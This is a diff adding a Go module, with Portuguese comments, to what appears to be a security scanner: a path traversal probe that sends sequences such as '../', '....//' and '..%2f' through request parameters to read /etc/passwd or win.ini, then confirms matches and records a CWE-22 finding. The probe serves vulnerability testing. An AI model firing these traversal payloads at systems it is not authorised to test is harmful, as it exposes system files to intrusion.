@@ -0,0 +1,142 @@
+package poc
+
+import (
+	"fmt"
+	"regexp"
+	"strings"
+
+	"github.com/ghostn3xus/reconsec/pkg/active"
+	"github.com/ghostn3xus/reconsec/pkg/report"
+)
+
+// traversalDepth é quantos níveis a sonda sobe; ".." na raiz continua na raiz.
+const traversalDepth = 8
+
+// inertFile é um arquivo legível por qualquer usuário, sem segredos, presente
+// em toda instalação do sistema, e a assinatura que confirma o seu conteúdo.
+type inertFile struct {
+	os        string
+	path      string
+	signature *regexp.Regexp
+}
+
+var inertFiles = []inertFile{
+	{"unix", "etc/passwd", regexp.MustCompile(`(?m)^root:[^:\n]*:0:0:`)},
+	{"windows", "windows/win.ini", regexp.MustCompile(`(?i)\[(fonts|extensions)\]`)},
+}
+
+// traversalSequences sobem um nível de diretório: a forma simples, uma que
+// sobrevive à remoção de "../", a codificada duas vezes e a barra invertida.
+var traversalSequences = []string{"../", "....//", "..%2f", `..\`}
+
+// fileParams são trechos de nomes de parâmetros que costumam receber caminhos.
+var fileParams = []string{"file", "path", "page", "doc", "template", "include", "dir", "folder", "name", "load", "read", "view"}
+
+// traversalLocations lista os parâmetros de query, formulário e JSON. Sem
+// nenhum, testa file, page e path na query.
+func traversalLocations(req active.HTTPRequest) []active.InjectionPoint {
+	if active.HasMarkers(req) {
+		return active.EnumerateInjectionPoints(req)
+	}
+	var points []active.InjectionPoint
+	for _, p := range active.EnumerateInjectionPoints(req) {
+		switch p.Kind {
+		case active.InjectQuery, active.InjectForm, active.InjectMultipart, active.InjectJSON:
+			points = append(points, p)
+		}
+	}
+	if len(points) == 0 {
+		for _, name := range []string{"file", "page", "path"} {
+			points = append(points, active.InjectionPoint{Kind: active.InjectQuery, Name: name})
+		}
+	}
+	return points
+}
+
+func isFileParam(name string) bool {
+	name = strings.ToLower(name)
+	for _, p := range fileParams {
+		if strings.Contains(name, p) {
+			return true
+		}
+	}
+	return false
+}
+
+// traversalPayloads monta os caminhos testados para o arquivo: o caminho
+// absoluto e uma subida de traversalDepth níveis com cada sequência.
+func traversalPayloads(f inertFile) []string {
+	out := []string{"/" + f.path}
+	for _, seq := range traversalSequences {
+		if seq == `..\` && f.os != "windows" {
+			continue
+		}
+		path := f.path
+		if strings.HasSuffix(seq, `\`) {
+			path = strings.ReplaceAll(path, "/", `\`)
+		}
+		out = append(out, strings.Repeat(seq, traversalDepth)+path)
+	}
+	return out
+}
+
+// TraversalProbe pede arquivos inertes do sistema por sequências de
+// traversal em cada parâmetro e confirma pela assinatura do conteúdo, que não
+// pode estar na resposta da requisição base. Parâmetros com nome de arquivo
+// são testados primeiro.
+func TraversalProbe(opt PoCOptions) ([]report.Finding, error) {
+	p, err := newProber(opt)
+	if err != nil {
+		return nil, err
+	}
+	baseline := p.send(p.base)
+	if baseline == nil {
+		return p.done(nil)
+	}
+
+	locations := traversalLocations(p.base)
+	var ordered []active.InjectionPoint
+	for _, first := range []bool{true, false} {
+		for _, loc := range locations {
+			if isFileParam(loc.Name) == first {
+				ordered = append(ordered, loc)
+			}
+		}
+	}
+
+	findings := []report.Finding{}
+	for _, loc := range ordered {
+		if f, ok := p.traverse(loc, baseline); ok {
+			findings = append(findings, f)
+		}
+	}
+	return p.done(findings)
+}
+
+// traverse testa os arquivos e sequências no local e devolve o primeiro achado confirmado.
+func (p *prober) traverse(loc active.InjectionPoint, baseline *active.Exchange) (report.Finding, bool) {
+	for _, file := range inertFiles {
+		if file.signature.Match(baseline.Body) {
+			continue
+		}
+		for _, payload := range traversalPayloads(file) {
+			req, err := loc.Apply(p.base, payload)
+			if err != nil {
+				return report.Finding{}, false
+			}
+			ex := p.send(req)
+			if ex == nil {
+				continue
+			}
+			m := file.signature.FindIndex(ex.Body)
+			if m == nil {
+				continue
+			}
+			f := newFinding("PathTraversal", "CWE-22", report.SeverityHigh, report.ConfidenceHigh, req, ex,
+				fmt.Sprintf("location=%s; os=%s; file=/%s; payload=%s; status=%d", loc, file.os, file.path, payload, ex.Status))
+			f.Evidence.Excerpt = excerpt(string(ex.Body), m[0], m[1]-m[0])
+			return f, true
+		}
+	}
+	return report.Finding{}, false
+}